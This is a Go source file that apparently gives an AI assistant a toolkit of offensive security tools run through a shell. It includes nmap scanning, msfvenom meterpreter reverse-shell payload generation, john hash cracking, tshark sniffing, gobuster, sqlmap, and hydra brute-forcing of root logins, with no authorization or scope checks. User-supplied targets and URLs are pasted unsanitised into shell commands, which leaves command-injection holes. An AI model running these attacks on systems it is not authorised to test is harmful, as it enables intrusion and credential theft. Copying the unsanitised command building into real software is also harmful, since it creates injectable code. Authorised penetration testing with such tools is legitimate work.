package actuators

import (
	"fmt"
	"strings"

	"github.com/doeshing/iris-go/internal/ports"
)

const defaultWordlist = "/usr/share/wordlists/rockyou.txt"
const defaultDirWordlist = "/usr/share/wordlists/dirb/common.txt"

// Toolkit wraps the command-line security tools. It builds the command,
// runs it through the shared runner and relays the tool's own output; the
// assistant adds no interpretation beyond a one-line header.
type Toolkit struct {
	run CommandRunner
	log ports.Logger
}

func NewToolkit(log ports.Logger) *Toolkit {
	return &Toolkit{run: ShellRunner(), log: log}
}

// NmapScan runs nmap against the target. Modes: quick (top ports, fast
// timing), full (all ports with version detection), os (OS fingerprint).
func (t *Toolkit) NmapScan(target, mode string) string {
	if !commandExists(t.run, "nmap") {
		return "nmap is not installed. Install it with: sudo apt install nmap"
	}

	var command string
	switch mode {
	case "full":
		command = "nmap -T4 -A -v " + target
	case "os":
		command = "sudo nmap -O " + target
	default:
		command = "nmap -T4 -F " + target
	}

	out, err := t.run(command)
	if err != nil {
		return "Nmap scan failed: " + firstLine(out, err)
	}
	return "Nmap scan of " + target + ":\n\n" + out
}

// GeneratePayload builds an msfvenom payload and writes it to /tmp.
func (t *Toolkit) GeneratePayload(platform, kind, lhost, lport string) string {
	if !commandExists(t.run, "msfvenom") {
		return "msfvenom is not installed. Install the Metasploit framework first."
	}

	payload, outfile := payloadSpec(platform, kind)
	command := fmt.Sprintf("msfvenom -p %s LHOST=%s LPORT=%s -o %s", payload, lhost, lport, outfile)

	out, err := t.run(command)
	if err != nil {
		return "Payload generation failed: " + firstLine(out, err)
	}
	return fmt.Sprintf("Payload generated: %s (%s, LHOST=%s, LPORT=%s)", outfile, payload, lhost, lport)
}

func payloadSpec(platform, kind string) (payload, outfile string) {
	direction := "reverse_tcp"
	if kind == "bind" {
		direction = "bind_tcp"
	}
	switch platform {
	case "windows":
		return "windows/meterpreter/" + direction, "/tmp/payload.exe"
	case "android":
		return "android/meterpreter/" + direction, "/tmp/payload.apk"
	default:
		return "linux/x86/meterpreter/" + direction, "/tmp/payload.elf"
	}
}

// CrackPassword runs john against a hash file. An empty wordlist falls
// back to rockyou.
func (t *Toolkit) CrackPassword(hashFile, wordlist string) string {
	if !commandExists(t.run, "john") {
		return "john is not installed. Install it with: sudo apt install john"
	}
	if wordlist == "" {
		wordlist = defaultWordlist
	}

	command := fmt.Sprintf("john --wordlist=%s %s && john --show %s", wordlist, hashFile, hashFile)
	out, err := t.run(command)
	if err != nil {
		return "Password cracking failed: " + firstLine(out, err)
	}
	return "John the Ripper results for " + hashFile + ":\n\n" + out
}

// CaptureAndAnalyze sniffs for the given duration with tshark and returns
// a protocol and endpoint summary. An empty interface lets tshark pick.
func (t *Toolkit) CaptureAndAnalyze(iface string, durationSeconds int) string {
	if !commandExists(t.run, "tshark") {
		return "tshark is not installed. Install it with: sudo apt install tshark"
	}
	if durationSeconds <= 0 {
		durationSeconds = 15
	}

	ifaceFlag := ""
	if iface != "" {
		ifaceFlag = "-i " + iface + " "
	}
	command := fmt.Sprintf("tshark %s-a duration:%d -q -z io,phs -z endpoints,ip", ifaceFlag, durationSeconds)

	out, err := t.run(command)
	if err != nil {
		return "Packet capture failed: " + firstLine(out, err)
	}
	return fmt.Sprintf("Captured %d seconds of traffic:\n\n%s", durationSeconds, out)
}

// NetworkReport summarizes interfaces, routes and open connections.
func (t *Toolkit) NetworkReport(iface string) string {
	sections := []struct {
		title   string
		command string
	}{
		{"Interfaces", "ip -brief addr"},
		{"Routes", "ip route"},
		{"Listening sockets", "ss -tulnp"},
	}
	if iface != "" {
		sections[0].command = "ip -brief addr show " + iface
	}

	var b strings.Builder
	b.WriteString("Network report:\n")
	for _, section := range sections {
		out, err := t.run(section.command)
		if err != nil {
			out = "(unavailable: " + err.Error() + ")"
		}
		b.WriteString("\n== " + section.title + " ==\n" + out + "\n")
	}
	return b.String()
}

// DirBuster enumerates paths on a web server with gobuster.
func (t *Toolkit) DirBuster(url string) string {
	if !commandExists(t.run, "gobuster") {
		return "gobuster is not installed. Install it with: sudo apt install gobuster"
	}

	command := fmt.Sprintf("gobuster dir -u %s -w %s -q", url, defaultDirWordlist)
	out, err := t.run(command)
	if err != nil {
		return "Directory enumeration failed: " + firstLine(out, err)
	}
	if out == "" {
		return "Directory enumeration of " + url + " found nothing."
	}
	return "Directories found on " + url + ":\n\n" + out
}

// SQLMap probes a URL for injectable parameters, non-interactively.
func (t *Toolkit) SQLMap(url string) string {
	if !commandExists(t.run, "sqlmap") {
		return "sqlmap is not installed. Install it with: sudo apt install sqlmap"
	}

	command := fmt.Sprintf("sqlmap -u '%s' --batch --level=1 --risk=1", url)
	out, err := t.run(command)
	if err != nil {
		return "SQL injection test failed: " + firstLine(out, err)
	}
	return "SQLMap results for " + url + ":\n\n" + out
}

// Hydra brute-forces a login service. An empty wordlist falls back to
// rockyou.
func (t *Toolkit) Hydra(target, service, wordlist string) string {
	if !commandExists(t.run, "hydra") {
		return "hydra is not installed. Install it with: sudo apt install hydra"
	}
	if wordlist == "" {
		wordlist = defaultWordlist
	}

	command := fmt.Sprintf("hydra -l root -P %s %s %s", wordlist, target, service)
	out, err := t.run(command)
	if err != nil {
		return "Brute force attempt failed: " + firstLine(out, err)
	}
	return fmt.Sprintf("Hydra results for %s on %s:\n\n%s", service, target, out)
}

// firstLine condenses tool output for an error message, preferring the
// tool's first line over the raw exec error.
func firstLine(out string, err error) string {
	if out != "" {
		if i := strings.IndexByte(out, '\n'); i >= 0 {
			return out[:i]
		}
		return out
	}
	return err.Error()
}

var _ ports.SecurityToolkit = (*Toolkit)(nil)
